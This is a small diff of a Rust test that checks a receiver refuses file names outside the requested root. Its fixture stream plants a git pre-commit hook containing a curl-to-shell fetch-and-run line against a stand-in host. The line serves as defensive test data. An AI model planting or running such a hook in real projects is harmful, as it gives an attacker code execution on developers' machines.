@@ -72,7 +72,7 @@ fn names_outside_the_requested_root_are_refused() {
     for good in ["report.txt", "report.txt/a", "report.txt/.hidden/..x"] {
         check_name(good.as_bytes(), b"report.txt").unwrap();
     }
-    // The issue 9 stream: the asked-for file, then a sibling and a git hook.
+    // The attack review's stream: the asked-for file, then a sibling and a git hook.
     let s = raw(&[
         (b'F', 0o644, "report.txt", b"ok"),
         (b'F', 0o755, ".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil|sh\n"),
